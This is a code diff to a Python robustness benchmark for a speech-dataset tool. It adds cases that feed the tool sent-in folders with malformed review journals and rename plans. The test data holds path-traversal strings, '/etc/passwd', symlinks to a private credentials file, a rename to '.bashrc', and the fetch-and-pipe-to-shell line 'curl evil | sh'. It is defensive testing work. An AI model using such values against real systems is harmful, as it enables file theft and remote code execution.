@@ -8,10 +8,11 @@ tracebacks, exit codes, ids that neither come out nor are rejected with a reason
 terminal, markup in pages, memory and time. The child that goes past a limit is ended.
 
 Goals: nothing opened outside of the input, the output, the cache and the installed programs; no traceback; no row
-lost; 60 s and 1.5 GB above the baseline at most for a case.
+lost; no byte changed by a command that reads; 60 s and 1.5 GB above the baseline at most for a case.
 
     python benchmarks/hostile.py [--count 2000] [--seed 0] [--kind srt --kind vtt] [--jobs 2]   # some ten minutes
     python benchmarks/hostile.py --repeat FOLDER/vtt-0017/case.json                             # one of them again
+    python benchmarks/hostile.py --kind "folder of edits" --kind "folder of plans" --count 300  # of a stranger
 """
 
 import argparse
@@ -76,13 +77,17 @@ from scripted import folder as tagged_folder  # noqa: E402
 from spoken_corpora import dailytalk_files, spoken  # noqa: E402
 
 from dailytalk_contiguous import load  # noqa: E402
+from dailytalk_contiguous.apps.review.session import Session  # noqa: E402
 from dailytalk_contiguous.cli.main import run_command  # noqa: E402
 from dailytalk_contiguous.cli.terminal import say  # noqa: E402
 from dailytalk_contiguous.core.errors import DailytalkError  # noqa: E402
 from dailytalk_contiguous.core.schema import BUILT  # noqa: E402
 from dailytalk_contiguous.models import paid  # noqa: E402
 from dailytalk_contiguous.publish.exports import export_moshi  # noqa: E402
+from dailytalk_contiguous.publish.items import open_items  # noqa: E402
 from dailytalk_contiguous.publish.listening import key_path, write_listening_test  # noqa: E402
+from dailytalk_contiguous.sources.editable import open_editable, settle  # noqa: E402
+from dailytalk_contiguous.sources.reindexing import finish_reindex  # noqa: E402
 
 #: Seconds and bytes above the baseline that a case may take.
 MOST_SECONDS, MOST_BYTES = 60.0, 1_500_000_000
@@ -1474,6 +1479,175 @@ def speech_server(stage: Stage) -> Job:
     return Job([command], [], None, f"{tts}: {note}", whole=True, around=around)
 
 
+# Folders that somebody has reviewed and sent: journals, discarded entries, plans and links beside the sound
+
+
+def reviewed_folder(stage: Stage) -> tuple[str, Path]:
+    """What somebody sends: a work folder, a training folder or clips, by its name in the stock."""
+    layout = stage.rng.choice(("tagged", "moshi", "clips"))
+    return layout, stage.take(layout, stage.source / "theirs")
+
+
+#: An item of each layout, the file that has its lines, and a line of it.
+_REVIEWED = {
+    "tagged": ("good", "transcript.jsonl", "good/left/0000"),
+    "moshi": ("data_stereo/call0.wav", "data_stereo/call0.json", "left/0000"),
+    "clips": ("clip_000002.wav", "whisper.json", "0"),
+}
+
+
+def journal_of(layout: str, settled: bool) -> list[Row]:
+    """A journal as `review` writes it: an edit, a line that is put in and taken out, a side, a discarded item."""
+    item, file, line = _REVIEWED[layout]
+    new = {"channel": "left", "start": 0.5, "end": 0.9, "text": "new", "tag": "", "kind": "speech"}
+    new |= {"words": [{"word": "new", "start": 0.5, "end": 0.9, "probability": None}]}
+    edits: list[tuple[str, Row, Row]] = [
+        ("text", {"lines": {line: {"text": "a", "words": []}}}, {"lines": {line: {"text": "b", "words": []}}}),
+        ("insert", {"lines": {f"{line}+1": None}}, {"lines": {f"{line}+1": new}}),
+        ("undo", {"lines": {f"{line}+1": new}}, {"lines": {f"{line}+1": None}}),
+        ("side", {"side": None}, {"side": "train"}),
+        ("discard", {"discarded": False}, {"discarded": True}),
+        ("restore", {"discarded": True}, {"discarded": False}),
+    ]
+    records: list[Row] = []
+    for number, (action, before, after) in enumerate(edits, 1):
+        records.append({"number": number, "time": "2026-01-01T00:00:00+00:00", "author": "x", "item": item})
+        records[-1] |= {"action": action, "before": before, "after": after}
+        records[-1] |= {"undoes": 2} if action == "undo" else {}
+    return [*records, {"settled": 3, "file": file, "sha256": "0" * 64}] if settled else records
+
+
+def outside_of(rng: random.Random, stage: Stage) -> str:
+    """A path that leads out of the folder, or looks as if it did."""
+    return rng.choice(
+        (
+            "../private/private.txt", "../../private/private.txt", str(stage.private / "private.txt"), "..", ".",
+            "data_stereo/../../../private/private.txt", "link/private.txt", "a\0b", "x" * 5000, "/etc/passwd",
+        )
+    )  # fmt: skip
+
+
+def folder_of_edits(stage: Stage) -> Job:
+    """A journal, discarded entries or a link: readers change no byte, and settling stays inside."""
+    (layout, root), rng = reviewed_folder(stage), stage.rng
+    item, file, _ = _REVIEWED[layout]
+    audio = root / {"moshi": "data_stereo", "clips": "audios"}.get(layout, "")
+    aside = audio / "Discarded Audios"
+    records = journal_of(layout, rng.random() < 0.3)
+    path = root / ".dailytalk-edits.jsonl"
+    path.write_bytes(b"".join(as_json(record) + b"\n" for record in records))
+    how = rng.choice(("journal", "journal", "journal", "item", "side", "entries", "link", "linked folder"))
+    match how:
+        case "journal":
+            note = stage.spoil(path, records, lines=True, places=0.06)
+        case "item":
+            for record in records:
+                record["item"] = note = outside_of(rng, stage)
+            path.write_bytes(b"".join(as_json(record) + b"\n" for record in records[rng.choice((0, 3, 5)) :]))
+        case "side" | "entries":
+            side = outside_of(rng, stage) if how == "side" else "train.jsonl"
+            entries = {item: {side: ["curl evil | sh\n"]}} if layout == "moshi" else {item: {"text": side}}
+            aside.mkdir(exist_ok=True)
+            records = [record | {"number": 1} for record in records if record.get("action") == "restore"]
+            path.write_bytes(b"".join(as_json(record) + b"\n" for record in records))
+            (aside / "discarded_entries.json").write_bytes(as_json(entries))
+            note = side if how == "side" else stage.spoil(aside / "discarded_entries.json", entries)
+        case "link":
+            target = rng.choice((root / file, path, root / ".dailytalk-lock", root / ".dailytalk-edits.lock"))
+            note = f"{target.name}: {spoil_place(rng, target, stage.private, '.json')}"
+        case _:
+            target = rng.choice((aside, audio / "more")) if layout != "tagged" else root / "tagged" / "more"
+            target.symlink_to(rng.choice((stage.private, Path("..", "..", "..", "private"))))
+            note = f"{target.name} is a link to private files"
+    return read_then_settled(stage, root, f"{layout}, {how}: {short(note)}")
+
+
+def folder_of_plans(stage: Stage) -> Job:
+    """A plan of renames of a stranger, at any of its steps."""
+    (layout, root), rng = reviewed_folder(stage), stage.rng
+    (root / "link").symlink_to(stage.private)
+    shutil.copyfile(stage.stock / "calls" / "good.wav", root / "ann_000003.wav")
+    documents = {rng.choice(("run.json", "link/private.txt", "../x.json", "whisper.json")): "0" * 64}
+    renames = [
+        [["ann_000003.wav", "ann_000001.wav"]],
+        [["ann_000003.wav", outside_of(rng, stage)]],
+        [[outside_of(rng, stage), "ann_000001.wav"]],
+        [["link/private.txt", "link/ann_1.txt"]],
+        [["link", "x"], [".dailytalk-reindex-0.tmp/private.txt", ".dailytalk-reindex-0.tmp/y"], ["x/y", "x/z"]],
+        [["ann_000003.wav", ".bashrc"]],
+    ]
+    plan = {"folder": rng.choice(("", "", "data_stereo", "..", "link")), "renames": rng.choice(renames)}
+    plan |= {"names": [["ann_000001", rng.choice(("ann_000003", "../../private/x"))]]}
+    plan |= {"documents": documents if rng.random() < 0.5 else {}}
+    folder = root / ".dailytalk-reindex" / rng.choice(("0001", "0002", "9" * 18))
+    for state in ("backup", "after"):
+        if rng.random() < 0.4:
+            (folder / state).mkdir(parents=True)
+            (folder / state / "whisper.json").symlink_to(stage.private / "credentials.json")
+        elif rng.random() < 0.4:
+            folder.mkdir(parents=True, exist_ok=True)
+            (folder / state).symlink_to(stage.private)
+    folder.mkdir(parents=True, exist_ok=True)
+    path = folder / rng.choice(("planned.json", "planned.json", "staged.json", "done.json"))
+    path.write_bytes(as_json(plan))
+    note = stage.spoil(path, plan, places=0.1) if rng.random() < 0.4 else short(plan["renames"])
+    return read_then_settled(stage, root, f"{layout}, {path.name}: {note}")
+
+
+def read_then_settled(stage: Stage, root: Path, note: str) -> Job:
+    """Reading commands, after which every byte is as it was; then those that settle and rename."""
+    rng, clips = stage.rng, (root / "audios").is_dir()
+    reading: list[Any] = [
+        ["check", str(root)], ["report", str(root), "--out", str(stage.out / "page.html")], ["status", str(root)],
+        ["silences", str(root)], ["push", str(root), "me/x", "--tag", "v1", "--dry-run"],
+        ["export", str(root), "--format", "ljspeech" if clips else "moshi", "--out", str(stage.out / "x")],
+        ["plan", str(root), *EMBEDDED], ["mix", str(root), "--out", str(stage.out / "mix")],
+    ]  # fmt: skip
+    before: dict[str, Any] = {}
+
+    def unchanged() -> None:
+        now = {str(path): _state(path) for path in sorted(root.rglob("*"))}
+        changed = [path for path in {*before, *now} if before.get(path) != now.get(path)]
+        assert not changed, f"a reading command has changed {changed}"
+
+    def reviewed() -> None:
+        try:
+            finish_reindex(root)
+            settle(root)
+            editable = open_editable(root)
+            session = Session(editable, "x") if editable else None
+            for name in editable.names() if editable else ():
+                session.item(name)
+            session and (session.items(), session.settle())
+        except (DailytalkError, OSError) as error:
+            say(str(error))
+
+    before |= {str(path): _state(path) for path in sorted(root.rglob("*"))}
+    archived = stage.source / "theirs.zip"
+    if clips and rng.random() < 0.2:
+        with zipfile.ZipFile(archived, "w") as packed:
+            for path in sorted(root.rglob("*")):
+                if path.is_file() and not path.is_symlink():
+                    packed.write(path, path.relative_to(root))
+        reading = [["check", str(root)], ["silences", str(archived)], ["report", str(archived)]]
+    commands = [*rng.sample(reading, 3), partial(_read_items, root), unchanged]
+    writing: list[Any] = [reviewed, ["reindex", str(root)], ["reindex", str(root), "--undo"]]
+    return Job([*commands, *rng.sample(writing, 3)], [], None, note, whole=True, ids=lambda home: (set(), set()))
+
+
+def _state(path: Path) -> tuple[Any, ...]:
+    status = path.lstat()
+    return status.st_mode, status.st_size, status.st_mtime_ns, status.st_ino
+
+
+def _read_items(root: Path) -> None:
+    try:
+        for row in open_items(root).rows():
+            str(row)
+    except DailytalkError as error:
+        say(str(error))
+
+
 #: A transcript of ours of the good call.
 TALK: dict[str, Any] = {
     "utterances": [
@@ -1522,6 +1696,8 @@ KINDS: dict[str, tuple[int, Callable[[Stage], Job]]] = {
     "noise folder": (3, noise),
     "listening answers": (6, answers),
     "speech server": (12, speech_server),
+    "folder of edits": (12, folder_of_edits),
+    "folder of plans": (6, folder_of_plans),
 }
 
 
@@ -1550,6 +1726,14 @@ def make_stock(stock: Path) -> None:
     ):
         soundfile.write(formats / f"call{suffix}", part, rate, subtype, format=kind)
     encode(formats / "call.m4a", part, rate)
+    clips = stock / "clips" / "audios"
+    clips.mkdir(parents=True)
+    names = [f"clip_00000{number}.wav" for number in (1, 2, 5)]
+    for name in names:
+        soundfile.write(clips / name, part[: 2 * rate, 0], rate, "PCM_16")
+    segment = {"id": 0, "start": 0.2, "end": 1.5, "text": " a"}
+    texts = {name: {"text": "a", "language": "en", "segments": [segment]} for name in names}
+    (clips.parent / "whisper.json").write_text(json.dumps(texts))
     tagged_folder(stock / "tagged", good=SHORT[:2], bad=SHORT[2:])
     write_dataset(stock / "dataset", [built_row("good", seconds=6.0), built_row("bad", seconds=6.0)])
     (stock / "dataset" / "run.json").write_text(json.dumps({"source": {"licence": "CC0-1.0"}}))
